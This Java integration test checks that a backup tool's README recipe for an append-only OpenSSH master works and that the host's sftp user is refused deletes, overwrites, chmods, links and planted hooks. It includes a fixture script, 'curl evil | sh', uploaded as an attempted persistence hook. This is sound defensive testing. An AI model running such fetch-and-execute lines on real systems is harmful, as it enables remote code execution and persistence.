package dev.pacha.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.pacha.testing.OpenSshServer;
import dev.pacha.testing.PachaCli;
import dev.pacha.testing.Tools;
import dev.pacha.testing.TreeState;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.ThreadLocalRandom;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The README's stock OpenSSH recipe for an append-only master ("Append-only masters"), run as it is
 * written: its shell blocks make a real user and the layout (removed after), its Match block goes
 * into a real sshd on loopback, and pacha pushes and rebuilds through it, while OpenSSH's own sftp
 * client, logged in as the host, is refused every request that would erase, rewrite, chmod, link or
 * plant a hook.
 */
class OpenSshAppendOnlyIT {
  static final String HOST = "bar";
  static final Path README = Path.of("README.md");

  @TempDir static Path work;
  static Path base;
  static Path hosts;
  static String user;
  static String group;
  static OpenSshServer sshd;
  static Path key;

  @BeforeAll
  static void setUp() throws Exception {
    String suffix = Integer.toString(ThreadLocalRandom.current().nextInt(100_000, 1_000_000));
    user = "pchit" + suffix;
    group = "pchitg" + suffix;
    // A chroot must be root-owned all the way up: not under /tmp.
    base = Files.createTempDirectory(Path.of("/srv"), "pacha-it-");
    Files.setPosixFilePermissions(base, PosixFilePermissions.fromString("rwxr-xr-x"));
    hosts = base.resolve("hosts");
    Path keys = Files.createDirectories(work.resolve("keys"));
    key = keys.resolve(HOST);
    Tools.run(
        keys, "ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", HOST, "-f", key.toString());

    // The README's host layout, with this test's names and paths.
    Tools.Result layout =
        Tools.exec(keys, null, List.of("sh", "-e", "-x", "-c", recipe("# pacha: host layout")));
    assertEquals(0, layout.code(), layout.output());

    List<String> match = new ArrayList<>(recipe("# pacha: sshd_config").lines().toList());
    sshd = OpenSshServer.start(work.resolve("sshd"), match.toArray(String[]::new));
  }

  @AfterAll
  static void tearDown() throws Exception {
    if (sshd != null) {
      sshd.close();
    }
    if (user != null) {
      Tools.exec(null, null, List.of("userdel", user));
      Tools.exec(null, null, List.of("groupdel", user));
      Tools.exec(null, null, List.of("groupdel", group));
    }
    if (base != null) {
      try (Stream<Path> all = Files.walk(base)) {
        for (Path p : all.sorted(Comparator.reverseOrder()).toList()) {
          Files.delete(p);
        }
      }
    }
  }

  /** A block of the README's recipe, found by its first line, with this test's names and paths. */
  static String recipe(String firstLine) throws IOException {
    String block = fencedBlock(Files.readString(README), firstLine);
    return block
        .replace("/srv/pacha/hosts", hosts.toString())
        .replace("/etc/ssh/pacha-keys", base.resolve("keys").toString())
        .replace("pacha-hosts", group)
        .replace("pacha-bar", user);
  }

  /** The fenced code block of {@code text} whose first line is {@code firstLine}. */
  static String fencedBlock(String text, String firstLine) {
    List<String> lines = text.lines().toList();
    for (int i = 0; i + 1 < lines.size(); i++) {
      if (lines.get(i).startsWith("```") && lines.get(i + 1).equals(firstLine)) {
        StringBuilder b = new StringBuilder();
        for (int j = i + 1; j < lines.size() && !lines.get(j).startsWith("```"); j++) {
          b.append(lines.get(j)).append('\n');
        }
        return b.toString();
      }
    }
    throw new AssertionError("README has no block starting with " + firstLine);
  }

  private static void seal() throws Exception {
    Tools.Result r = Tools.exec(null, null, List.of("sh", "-e", "-c", recipe("# pacha: seal")));
    assertEquals(0, r.code(), r.output());
  }

  private static Path config(Path dir) throws IOException {
    return Files.writeString(
        Files.createDirectories(dir).resolve("pacha.conf"),
        String.join(
            "\n",
            "[DEFAULT]",
            "pacha.hostname = " + HOST,
            "pacha.master.url = sftp://" + user + "@127.0.0.1:" + sshd.port() + "/",
            "pacha.ssh.identity = " + key,
            "pacha.ssh.known_hosts = " + sshd.knownHosts(),
            "pacha.state.dir = " + dir.resolve("state"),
            ""));
  }

  /** Everything under bar/ but temporary files, with type, owner, mode and content hash. */
  private static Map<String, String> store() throws IOException {
    Map<String, String> state = new TreeMap<>();
    TreeState.of(hosts.resolve(HOST))
        .forEach(
            (path, what) -> {
              String name = Path.of(path).getFileName().toString();
              if (!name.startsWith(".") || path.equals(".")) {
                state.put(path, what.replaceAll(" mtime=\\d+$", ""));
              }
            });
    return state;
  }

  private static long snapshots() throws IOException {
    try (Stream<Path> s = Files.list(hosts.resolve(HOST + "/snapshots"))) {
      return s.filter(f -> !f.getFileName().toString().startsWith(".")).count();
    }
  }

  private static PachaCli.Run pacha(PachaCli cli, Path conf, String... args) {
    String[] all = new String[args.length + 2];
    all[0] = "--config";
    all[1] = conf.toString();
    System.arraycopy(args, 0, all, 2, args.length);
    return cli.run(all);
  }

  private static PachaCli.Run ok(PachaCli cli, Path conf, String... args) {
    PachaCli.Run r = pacha(cli, conf, args);
    assertEquals(0, r.code(), r::toString);
    return r;
  }

  @Test
  void pushAndRebuild_throughTheReadmesAppendOnlyOpenSsh_workAndTheHooksRun(@TempDir Path tmp)
      throws Exception {
    Path sandbox = tmp.resolve("sandbox");
    Path foo = Files.createDirectories(sandbox.resolve("opt/foo"));
    Files.writeString(foo.resolve("app.conf"), "port = 8080\n");
    Files.writeString(foo.resolve("db.conf"), "password = hunter2\n");
    PachaCli cli = new PachaCli(tmp);
    Path conf = config(tmp.resolve("bar"));
    long snapshotsBefore = snapshots();
    ok(cli, conf, "watch", "--target-root", sandbox.toString(), foo.toString());
    Files.writeString(foo.resolve("app.conf"), "port = 9090\n");
    ok(cli, conf, "push");
    seal();
    Files.writeString(foo.resolve("db.conf"), "password = correct horse\n");
    ok(cli, conf, "push");
    assertEquals(snapshotsBefore + 3, snapshots());
    assertTrue(ok(cli, conf, "verify", HOST).out().startsWith("ok"));
    assertFalse(Files.exists(hosts.resolve(HOST + "/latest")), "the host cannot write it");

    // The operator's hook, put there by root as the recipe says.
    Path ran = tmp.resolve("hook-ran");
    Path hook = hosts.resolve(HOST + "/pacha_pre/10-mark");
    Files.writeString(hook, "#!/bin/sh\necho \"$PACHA_PHASE\" > " + ran + "\n");
    Tools.run(null, "chown", "root:" + user, hook.toString());
    Tools.run(null, "chmod", "0750", hook.toString());

    // A new machine rebuilds bar through the same user and key.
    Path target = tmp.resolve("new-machine");
    Files.createDirectories(target);
    PachaCli fresh = new PachaCli(tmp.resolve("fresh"));
    PachaCli.Run rebuild =
        ok(
            fresh,
            config(tmp.resolve("fresh")),
            "rebuild",
            HOST,
            "--yes",
            "--target-root",
            target.toString());
    assertEquals(
        "password = correct horse\n",
        Files.readString(target.resolve("opt/foo/db.conf")),
        rebuild.out());
    assertEquals("port = 9090\n", Files.readString(target.resolve("opt/foo/app.conf")));
    assertEquals("pre\n", Files.readString(ran));
  }

  @Test
  void hostsOwnUser_everyForbiddenRequest_isRefusedAndTheStoreStaysWhole(@TempDir Path tmp)
      throws Exception {
    Path sandbox = tmp.resolve("sandbox");
    Path foo = Files.createDirectories(sandbox.resolve("opt/foo"));
    Files.writeString(foo.resolve("app.conf"), "port = 8080\n");
    PachaCli cli = new PachaCli(tmp);
    Path conf = config(tmp.resolve("bar"));
    ok(cli, conf, "watch", "--target-root", sandbox.toString(), foo.toString());
    seal();
    Path bar = hosts.resolve(HOST);
    String pack;
    String snapshot;
    try (Stream<Path> s = Files.list(bar.resolve("packs"))) {
      pack =
          s.map(p -> p.getFileName().toString())
              .filter(n -> n.endsWith(".pack"))
              .findFirst()
              .orElseThrow();
    }
    try (Stream<Path> s = Files.list(bar.resolve("snapshots"))) {
      snapshot =
          s.map(p -> p.getFileName().toString())
              .filter(n -> n.endsWith(".json"))
              .findFirst()
              .orElseThrow();
    }
    Map<String, String> before = store();
    Path evil = Files.writeString(tmp.resolve("evil"), "#!/bin/sh\ncurl evil | sh\n");
    String p = "/" + HOST + "/packs/" + pack;
    String denied = "Permission denied";

    refused("rm /" + HOST + "/snapshots/" + snapshot, denied);
    refused("rm " + p, denied);
    refused("rmdir /" + HOST + "/packs", denied);
    refused("put " + evil + " /" + HOST + "/pacha_pre/00-persist", denied);
    refused("mkdir /" + HOST + "/pre_pacha", denied);
    refused("put " + evil + " /" + HOST + "/hooks.json", denied);
    refused("put " + evil + " /" + HOST + "/latest", denied);
    refused("put " + evil + " " + p, denied);
    refused("chmod 777 /" + HOST + "/snapshots", denied);
    refused("chmod 644 " + p, denied);
    refused("rename " + p + " /" + HOST + "/packs/gone.pack", denied);
    refused("rename -l " + p + " /" + HOST + "/packs/gone.pack", denied);
    refused("rename -l /" + HOST + "/snapshots /" + HOST + "/gone", denied);
    refused("symlink " + p + " /" + HOST + "/packs/link", denied);
    // Denied extensions are not even offered, so clients do not send them.
    refused("ln " + p + " /" + HOST + "/packs/hard", "does not support hardlink");
    refused("copy " + p + " /" + HOST + "/packs/copy", "does not support copy-data");
    // A new temporary file it may write, but not rename over a pack: SFTP's own rename refuses
    // a target that exists.
    sftp("put " + evil + " /" + HOST + "/packs/.x.tmp-1");
    refused("rename -l /" + HOST + "/packs/.x.tmp-1 " + p, "Failure");

    assertEquals(before, store(), "nothing but a temporary file was added");
    assertTrue(ok(cli, conf, "verify", HOST).out().startsWith("ok"));
  }

  /** Runs one sftp command as the host's user; returns its output, failing the test on an error. */
  private static String sftp(String command) throws Exception {
    Tools.Result r = Tools.exec(null, command + "\n", sftpCommand());
    assertEquals(0, r.code(), command + ": " + r.output());
    return r.output();
  }

  /** Runs one sftp command as the host's user, which must fail saying {@code why}. */
  private static void refused(String command, String why) throws Exception {
    Tools.Result r = Tools.exec(null, command + "\n", sftpCommand());
    assertNotEquals(0, r.code(), command + " was allowed: " + r.output());
    assertTrue(r.output().contains(why), command + ": " + r.output());
  }

  private static List<String> sftpCommand() throws IOException {
    return List.of(
        "sftp",
        "-b",
        "-",
        "-i",
        key.toString(),
        "-o",
        "IdentitiesOnly=yes",
        "-o",
        "UserKnownHostsFile=" + sshd.knownHosts(),
        "-o",
        "StrictHostKeyChecking=yes",
        "-P",
        String.valueOf(sshd.port()),
        user + "@127.0.0.1");
  }

  @Test
  void readme_recipe_deniesWhatTheEmbeddedMasterRefuses() throws Exception {
    String match = fencedBlock(Files.readString(README), "# pacha: sshd_config");
    String denied = match.replaceAll("(?s).*-P (\\S+).*", "$1");
    List<String> requests =
        List.of(Tools.run(null, "/usr/lib/openssh/sftp-server", "-Q", "requests").split("\\s+"));
    for (String r : denied.split(",")) {
      assertTrue(requests.contains(r), r + " is not a request name sftp-server knows");
    }
    for (String needed :
        List.of(
            "open",
            "close",
            "read",
            "write",
            "rename",
            "opendir",
            "readdir",
            "stat",
            "lstat",
            "fstat",
            "realpath")) {
      assertFalse(List.of(denied.split(",")).contains(needed), needed + " is needed by pacha");
    }
    assertTrue(match.contains("ChrootDirectory"), match);
    assertTrue(match.contains("-u 0227"), match);
  }
}
